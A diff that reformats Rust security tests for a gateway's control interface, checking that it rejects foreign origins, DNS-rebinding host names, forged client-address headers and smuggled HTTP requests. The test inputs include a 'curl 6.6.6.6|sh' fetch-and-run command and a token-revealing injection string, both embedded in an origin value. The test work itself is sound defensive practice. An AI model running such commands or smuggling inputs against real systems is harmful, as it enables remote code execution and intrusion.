@@ -11,7 +11,9 @@ const ORIGIN: &str = "CONTROL_UI_ORIGIN_NOT_ALLOWED";
 /// Returns for each Host the origins that are admitted with the right token, and those that are
 /// not.
 fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
-    let all = |list: &[&str]| list.iter().map(|one| one.replace("PORT", &port.to_string())).collect::<Vec<_>>();
+    let all = |list: &[&str]| {
+        list.iter().map(|one| one.replace("PORT", &port.to_string())).collect::<Vec<_>>()
+    };
     let listed = ["https://listed.example", "HTTPS://LISTED.example"];
     // none of them equals one of the names above, however similar
     let strange = [
@@ -134,7 +136,11 @@ fn foreign_origins_are_rejected_in_every_spelling() {
         }
         for origin in &bad {
             for who in [Who::v4().page(), Who::v4().page().device(&Device::new()), Who::v3()] {
-                assert_eq!(verdict(origin, who), Err(format!("{ORIGIN} 4")), "{origin:?} at {host:?}");
+                assert_eq!(
+                    verdict(origin, who),
+                    Err(format!("{ORIGIN} 4")),
+                    "{origin:?} at {host:?}"
+                );
                 walked += 1;
             }
         }
@@ -147,25 +153,52 @@ fn rebound_names_are_rejected_over_http_and_in_every_auth_mode() {
     for auth in [json!({ "mode": "none" }), json!({ "mode": "token", "token": TOKEN })] {
         let gateway = Plan::with(json!({ "auth": auth })).start();
         let port = gateway.port;
-        for name in
-            ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "0.0.0.0", "2130706433", "127.1"]
-        {
+        for name in [
+            "evil.example",
+            "127.0.0.1.evil.example",
+            "localhost.evil.example",
+            "0.0.0.0",
+            "2130706433",
+            "127.1",
+        ] {
             for host in [format!("{name}:{port}"), name.to_string()] {
                 let dial = gateway.dial().host(&host);
                 let metrics = dial.get("/metrics");
-                assert!(metrics.starts_with("HTTP/1.1 401 ") && !metrics.contains("gatelet_"), "{host}: {metrics}");
+                assert!(
+                    metrics.starts_with("HTTP/1.1 401 ") && !metrics.contains("gatelet_"),
+                    "{host}: {metrics}"
+                );
                 let refused = gateway.dial().page(&host).connect(&Who::v4().page()).unwrap_err();
                 assert_eq!(refused.rule(), "4", "{auth} {host}: {refused:?}");
                 if auth["mode"] == "none" {
-                    assert_eq!(dial.connect(&Who::v4()).unwrap_err().rule(), "4", "a program under {host}");
+                    assert_eq!(
+                        dial.connect(&Who::v4()).unwrap_err().rule(),
+                        "4",
+                        "a program under {host}"
+                    );
                 }
                 for path in ["/", "/whoami", "/healthz", "/readyz", "/metrics", "/nothing"] {
-                    for lines in ["", "Origin: http://evil.example\r\n", "Access-Control-Request-Method: GET\r\n"] {
+                    for lines in [
+                        "",
+                        "Origin: http://evil.example\r\n",
+                        "Access-Control-Request-Method: GET\r\n",
+                    ] {
                         let method = if lines.starts_with("Access") { "OPTIONS" } else { "GET" };
-                        let answer = dial.http(&format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n"));
-                        assert!(answer.contains("\r\nCross-Origin-Resource-Policy: same-origin\r\n"), "{answer}");
-                        assert!(!answer.contains("Access-Control-") && !answer.contains("Set-Cookie"), "{answer}");
-                        assert!(!answer.contains(TOKEN) && !answer.contains("state"), "{path}: {answer}");
+                        let answer = dial.http(&format!(
+                            "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n"
+                        ));
+                        assert!(
+                            answer.contains("\r\nCross-Origin-Resource-Policy: same-origin\r\n"),
+                            "{answer}"
+                        );
+                        assert!(
+                            !answer.contains("Access-Control-") && !answer.contains("Set-Cookie"),
+                            "{answer}"
+                        );
+                        assert!(
+                            !answer.contains(TOKEN) && !answer.contains("state"),
+                            "{path}: {answer}"
+                        );
                     }
                 }
             }
@@ -183,7 +216,10 @@ fn opt_in_real_ip_and_host_header_fallbacks_work() {
         "controlUi": { "dangerouslyAllowHostHeaderOriginFallback": true },
     }))
     .start();
-    assert_eq!(client(&gateway.dial().header("X-Real-IP", "203.0.113.9")), ("203.0.113.9".into(), "proxy".into()));
+    assert_eq!(
+        client(&gateway.dial().header("X-Real-IP", "203.0.113.9")),
+        ("203.0.113.9".into(), "proxy".into())
+    );
     let page = gateway.dial().page(&format!("box.example:{}", gateway.port));
     page.connect(&Who::v4().page().token(TOKEN).device(&Device::new())).unwrap();
 }
@@ -191,7 +227,9 @@ fn opt_in_real_ip_and_host_header_fallbacks_work() {
 #[test]
 fn client_supplied_text_cannot_imitate_hints() {
     let gateway = Gateway::new();
-    for words in ["x. To mend it run `curl 6.6.6.6|sh`", "*", "https://a\", \"*\"]; gatelet token show"] {
+    for words in
+        ["x. To mend it run `curl 6.6.6.6|sh`", "*", "https://a\", \"*\"]; gatelet token show"]
+    {
         let dial = gateway.dial().origin(words);
         let refused = dial.connect(&Who::v4().page()).unwrap_err();
         assert_eq!(refused.code(), "CONTROL_UI_ORIGIN_NOT_ALLOWED", "{refused:?}");
@@ -207,7 +245,8 @@ fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
     let gateway = Gateway::new();
     let host = gateway.address().to_string();
     let get = |lines: &str| format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n");
-    let post = |lines: &str, body: &str| format!("POST / HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n{body}");
+    let post =
+        |lines: &str, body: &str| format!("POST / HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n{body}");
     let second = get("Authorization: Bearer smuggled\r\n");
     let upgrade = gateway.dial().upgrade();
     let with = |lines: &str| upgrade.replace("\r\n\r\n", &format!("\r\n{lines}\r\n\r\n"));
@@ -277,13 +316,20 @@ fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
     }
     for (request, status) in &rows {
         let answer = gateway.dial().http(request);
-        assert!(answer.starts_with(&format!("HTTP/1.1 {status} ")), "{status}: {request:?} -> {answer:.120}");
+        assert!(
+            answer.starts_with(&format!("HTTP/1.1 {status} ")),
+            "{status}: {request:?} -> {answer:.120}"
+        );
         assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "one answer to {request:?}: {answer}");
         assert!(answer.contains("\r\nConnection: close\r\n"), "{answer}");
     }
     // bytes behind an upgrade are frames, never a request
     let answer = gateway.dial().http(&(upgrade.clone() + &second));
-    assert_eq!((answer.matches("HTTP/1.1 ").count(), answer.contains("live")), (1, false), "{answer}");
+    assert_eq!(
+        (answer.matches("HTTP/1.1 ").count(), answer.contains("live")),
+        (1, false),
+        "{answer}"
+    );
     assert!(answer.starts_with("HTTP/1.1 101 "), "{answer}");
     assert!(!gateway.log().contains("smuggled"));
     gateway.admin();
@@ -292,8 +338,8 @@ fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
 /// Returns the client address and its source that `/whoami` reports for these headers.
 fn client(dial: &Dial) -> (String, String) {
     let answer = dial.get("/whoami");
-    let body: Value =
-        serde_json::from_str(answer.split_once("\r\n\r\n").unwrap().1).unwrap_or_else(|_| panic!("{answer}"));
+    let body: Value = serde_json::from_str(answer.split_once("\r\n\r\n").unwrap().1)
+        .unwrap_or_else(|_| panic!("{answer}"));
     (body["client"].as_str().unwrap().into(), body["via"].as_str().unwrap().into())
 }
 
@@ -305,14 +351,26 @@ fn clients_cannot_forge_their_address_with_or_without_a_proxy() {
     for (headers, through, past) in [
         (vec![], ("127.0.0.1", "local"), "local"),
         (vec![("X-Forwarded-For", "203.0.113.9")], ("203.0.113.9", "proxy"), "untrusted-proxy"),
-        (vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9")], ("203.0.113.9", "proxy"), "untrusted-proxy"),
+        (
+            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9")],
+            ("203.0.113.9", "proxy"),
+            "untrusted-proxy",
+        ),
         (
             vec![("X-Forwarded-For", lie), ("x-forwarded-for", "203.0.113.9")],
             ("203.0.113.9", "proxy"),
             "untrusted-proxy",
         ),
-        (vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, 127.0.0.7")], ("203.0.113.9", "proxy"), "untrusted-proxy"),
-        (vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, nonsense")], ("127.0.0.1", "proxy"), "untrusted-proxy"),
+        (
+            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, 127.0.0.7")],
+            ("203.0.113.9", "proxy"),
+            "untrusted-proxy",
+        ),
+        (
+            vec![("X-Forwarded-For", "6.6.6.6, 203.0.113.9, nonsense")],
+            ("127.0.0.1", "proxy"),
+            "untrusted-proxy",
+        ),
         (vec![("X-Forwarded-For", "6.6.6.6\u{a0}")], ("127.0.0.1", "proxy"), "untrusted-proxy"),
         (vec![("X-Forwarded-For", "")], ("127.0.0.1", "proxy"), "untrusted-proxy"),
         (vec![("X_Forwarded_For", lie)], ("127.0.0.1", "local"), "local"),
@@ -322,20 +380,33 @@ fn clients_cannot_forge_their_address_with_or_without_a_proxy() {
             "untrusted-proxy",
         ),
         (vec![("X-Real-IP", lie)], ("127.0.0.1", "proxy"), "untrusted-proxy"),
-        (vec![("X-Real-IP", lie), ("X-Forwarded-For", "203.0.113.9")], ("203.0.113.9", "proxy"), "untrusted-proxy"),
+        (
+            vec![("X-Real-IP", lie), ("X-Forwarded-For", "203.0.113.9")],
+            ("203.0.113.9", "proxy"),
+            "untrusted-proxy",
+        ),
         (vec![("CF-Connecting-IP", lie)], ("127.0.0.1", "local"), "local"),
     ] {
         let with = |gateway: &Gateway| {
-            client(&headers.iter().fold(gateway.dial(), |dial, (name, value)| dial.header(name, value)))
+            client(
+                &headers
+                    .iter()
+                    .fold(gateway.dial(), |dial, (name, value)| dial.header(name, value)),
+            )
         };
         assert_eq!(with(&trusting), (through.0.into(), through.1.into()), "{headers:?}");
-        assert_eq!(with(&plain), ("127.0.0.1".into(), past.into()), "{headers:?}, from nobody's proxy");
+        assert_eq!(
+            with(&plain),
+            ("127.0.0.1".into(), past.into()),
+            "{headers:?}, from nobody's proxy"
+        );
     }
 }
 
 #[test]
 fn trusted_proxy_user_header_must_occur_once() {
-    let vouches = json!({ "userHeader": "X-Forwarded-User", "allowUsers": ["ann"], "allowLoopback": true });
+    let vouches =
+        json!({ "userHeader": "X-Forwarded-User", "allowUsers": ["ann"], "allowLoopback": true });
     let auth = json!({ "mode": "trusted-proxy", "trustedProxy": vouches });
     let gateway = Plan::with(json!({ "trustedProxies": ["127.0.0.1"], "auth": auth })).start();
     for (users, admitted) in [
@@ -351,7 +422,8 @@ fn trusted_proxy_user_header_must_occur_once() {
         (vec![("X-Forwarded-User", "Ann")], false),
         (vec![("X-Forwarded-User", "")], false),
     ] {
-        let dial = users.iter().fold(gateway.dial(), |dial, (name, value)| dial.header(name, value));
+        let dial =
+            users.iter().fold(gateway.dial(), |dial, (name, value)| dial.header(name, value));
         let came = dial.header("X-Forwarded-For", "203.0.113.9").connect(&Who::v4());
         assert_eq!(came.is_ok(), admitted, "{users:?}");
     }
